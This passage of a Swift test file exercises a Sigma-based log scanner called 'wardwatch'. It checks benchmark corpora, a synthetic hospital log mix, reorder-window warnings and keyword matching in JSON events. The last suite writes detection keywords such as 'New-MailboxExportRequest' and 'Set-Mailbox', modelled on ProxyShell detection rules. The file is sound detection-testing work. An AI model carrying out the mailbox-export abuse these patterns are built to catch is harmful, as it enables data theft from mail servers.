        #expect(tail[1].hasPrefix("prefilter: ") && tail[1].contains(" % of events have a candidate rule; "))
        #expect(tail[2].hasPrefix("candidates: ") && tail[2].hasSuffix(" the rest ruled out by them"))
    }

    /// With no rules named, bench measures the bundled ones as scan loads them: the site's (empty)
    /// placeholder values leave the rules that need them off, not a rule error that stops the run.
    @Test func benchMeasuresTheBundledRulesAsScanLoadsThem() throws {
        let run = try wardwatch(["bench", "--events", "2000", "--threads", "1"])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stderr.isEmpty)
        #expect(run.stdout.contains("\n2000 events, "))
    }

    @Test func benchWritesACorpusAndRulesThatScanReads() throws {
        let dir = try Paths.temporaryDirectory()
        let corpus = dir.appendingPathComponent("corpus.log").path
        let rules = dir.appendingPathComponent("rules").path
        #expect(try wardwatch(["bench", "--corpus", "syslog", "--write-corpus", corpus, "--bytes", "200000"]).status == 0)
        #expect(try wardwatch(["bench", "--generated-profile", "rare", "--write-rules", rules, "--generated-rules", "25"]).status == 0)
        #expect(try FileManager.default.contentsOfDirectory(atPath: rules).count == 25)
        let scan = try wardwatch(["scan", "--year", "2026", "--rules", rules, corpus])
        #expect(scan.status == 0)
        #expect(scan.stderr.contains("  rules: 25 loaded, 25 for log sources with events\n"))
        #expect(!scan.stdout.isEmpty)
    }

    /// The hospital corpus is what the parsers read (no line left unparsed, every dataset of the mix
    /// present) and the realistic rules load cleanly and fire on it.
    @Test func theHospitalCorpusParsesWholeAndRealisticRulesFire() throws {
        let dir = try Paths.temporaryDirectory()
        let corpus = dir.appendingPathComponent("hospital.log").path
        let rules = dir.appendingPathComponent("rules").path
        let written = try wardwatch(["bench", "--write-corpus", corpus, "--bytes", "2000000"])
        #expect(written.stdout == "wrote 2000035 bytes of the generated hospital corpus to \(corpus)\n")
        #expect(try wardwatch(["bench", "--write-rules", rules, "--generated-rules", "200"]).status == 0)
        let lint = try wardwatch(["rules", "lint", rules])
        #expect(lint.status == 0)
        #expect(lint.stdout.contains("200 files: 200 rules, 0 filters, 0 correlations loaded; 0 errors in 0 files, 0 warnings."))
        let scan = try wardwatch(["scan", "--year", "2026", "--rules", rules, corpus, "-o", "/dev/null"])
        #expect(scan.status == 0)
        #expect(scan.stderr.contains("  unparsed lines: 0\n"))
        for dataset in ["syslog.rfc3164", "syslog.rfc5424", "firewall.netfilter", "firewall.fortigate", "firewall.cisco_asa",
                        "firewall.panos", "firewall.filterlog", "firewall.sonicwall", "hl7.v2", "hl7.atna"] {
            #expect(scan.stderr.contains(" \(dataset) "), "\(dataset)")
        }
        #expect(!scan.stderr.contains("  alerts: 0\n"))
    }
}

@Suite struct ReorderWarningTests {
    /// An event later than the reorder window is still written, and the operator is told.
    @Test func eventsBeyondTheReorderWindowAreReported() throws {
        let dir = try Paths.temporaryDirectory()
        let file = dir.appendingPathComponent("late.log")
        try Data("Nov 22 01:23:20 a app: first\nNov 22 01:26:40 a app: second\nNov 22 01:25:00 a app: late\n".utf8).write(to: file)
        let run = try wardwatch(["parse", "--year", "2026", "--order", "event-time", file.path])
        #expect(run.status == 0)
        #expect(run.stdout.split(separator: "\n").count == 3)
        #expect(run.stderr.contains("wardwatch: warning: 1 event was older than --reorder-window behind an earlier event of their input; it was written at the window's edge, not in time order.\n"))
        let inOrder = try wardwatch(["parse", "--year", "2026", "--order", "event-time", "--reorder-window", "200", file.path])
        #expect(!inOrder.stderr.contains("reorder-window"))
    }
}

/// Sigma keywords search an event's values: for JSON and Windows events each value decoded, so a
/// keyword holding `"` or `\` finds what the escaped line spells `\"` or `\\` (SigmaHQ's Exchange
/// ProxyShell keyword rules are of this kind); for text formats, the line as before.
@Suite struct KeywordSemanticsTests {
    @Test func keywordsFindQuotesAndBackslashesInsideJSONValues() throws {
        let dir = try Paths.temporaryDirectory()
        let mappings = dir.appendingPathComponent("mappings")
        try FileManager.default.createDirectory(at: mappings, withIntermediateDirectories: true)
        try "title: t\nsources:\n  - logsource: {product: test}\n    events: {event.dataset: [json]}\n"
            .write(to: mappings.appendingPathComponent("t.yml"), atomically: true, encoding: .utf8)
        let rules = dir.appendingPathComponent("rules.yml")
        try """
            title: quote
            logsource: {product: test}
            detection: {keywords: [' -Confirm "False"'], condition: keywords}
            ---
            title: backslash
            logsource: {product: test}
            detection: {keywords: ['C:\\temp\\a'], condition: keywords}
            ---
            title: nested value
            logsource: {product: test}
            detection: {keywords: ['New-MailboxExportRequest'], condition: keywords}
            ---
            title: all in different values
            logsource: {product: test}
            detection: {keywords: {'|all': ['Set-Mailbox', 'x@example.org']}, condition: keywords}
            ---
            title: key names are not values
            logsource: {product: test}
            detection: {keywords: ['Data'], condition: keywords}
            """.write(to: rules, atomically: true, encoding: .utf8)
        let log = dir.appendingPathComponent("events.jsonl")
        try #"""
            {"Data":"Set-Mailbox -Identity x -Confirm \"False\" -Path C:\\temp\\a","User":{"Mail":"x@example.org"}}
            {"Payload":{"Command":"New-MailboxExportRequest -Mailbox y"}}

            """#.write(to: log, atomically: true, encoding: .utf8)
        let run = try wardwatch(["scan", "--mappings", mappings.path, "--rules", rules.path, log.path])
        #expect(run.status == 0, "\(run.stderr)")
        let names = jsonLines(run.stdout).map { "\($0["log.offset"] as! Int) \($0["rule.name"] as! String)" }
        #expect(names == ["0 quote", "0 backslash", "0 all in different values", "104 nested value"])
    }
}
